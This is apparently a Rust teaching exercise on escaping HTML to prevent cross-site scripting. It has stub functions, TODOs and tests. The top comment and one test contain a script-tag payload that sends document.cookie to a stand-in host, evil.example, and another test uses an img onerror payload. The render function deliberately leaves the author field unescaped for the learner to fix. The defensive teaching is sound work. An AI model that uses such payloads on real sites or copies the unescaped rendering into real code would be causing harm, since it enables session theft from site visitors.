// xss1: escaping HTML output
//
// Cross-site scripting (XSS) is injection into HTML. A comment page that pastes comments in
// as they were typed lets anyone post `<script>fetch('https://evil.example/?c=' +
// document.cookie)</script>`, and every later visitor's browser runs it as your site's code,
// with their session. Escape on output: `&` -> `&amp;` (first, or you escape your own
// entities twice), `<` -> `&lt;`, `>` -> `&gt;`, `"` -> `&quot;`, `'` -> `&#x27;`. Store what
// the user typed; escape when you render.
//
// Write `escape_html`, and use it for everything user-controlled on the page.

struct Comment {
    author: String,
    body: String,
}

/// Escapes the five characters that HTML gives a meaning.
fn escape_html(text: &str) -> String {
    // TODO: replace each of the five characters with its entity. Walk `text.chars()`.
    text.to_string()
}

fn render_comment(comment: &Comment) -> String {
    format!(
        "<li><b>{}</b>: {}</li>",
        comment.author, // TODO: the author's name is typed by a user too.
        escape_html(&comment.body)
    )
}

fn main() {
    let comment = Comment {
        author: "Tom & Jerry".to_string(),
        body: "<3".to_string(),
    };
    println!("{}", render_comment(&comment));
}

// The tests below check your work. You don't need to change them.
#[cfg(test)]
mod tests {
    use super::*;

    fn render(author: &str, body: &str) -> String {
        let (author, body) = (author.to_string(), body.to_string());
        render_comment(&Comment { author, body })
    }

    #[test]
    fn escapes_the_five_characters_once() {
        let lt = escape_html("<");
        let why = "`&` is replaced first, or the `&` of `&lt;` is escaped again";
        assert_eq!(lt, "&lt;", "`<` is escaped exactly once: {why}");
        let got = escape_html(r#"<a href="x">Tom & Jerry's</a> &lt; 👋"#);
        let want = "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#x27;s&lt;/a&gt; &amp;lt; 👋";
        assert_eq!(got, want, "each of the five characters, `&` exactly once");
    }

    #[test]
    fn a_script_in_a_comment_is_shown_not_run() {
        let html = render(
            "mallory",
            "<script>fetch('https://evil.example/?c=')</script>",
        );
        let why = format!("escaped twice, the page shows `&lt;` where `<` was typed: {html}");
        assert!(!html.contains("&amp;lt;"), "{why}");
        let why = format!("the attacker's script tag reached the page: {html}");
        assert!(html.contains("&lt;script&gt;fetch(&#x27;"), "{why}");
    }

    #[test]
    fn an_event_handler_in_the_author_name_is_shown_not_run() {
        let html = render("<img src=x onerror=alert(1)>", "hi");
        let want = "<li><b>&lt;img src=x onerror=alert(1)&gt;</b>: hi</li>";
        assert_eq!(
            html, want,
            "the author's name is user input too: escape it, exactly once, like the body"
        );
    }
}
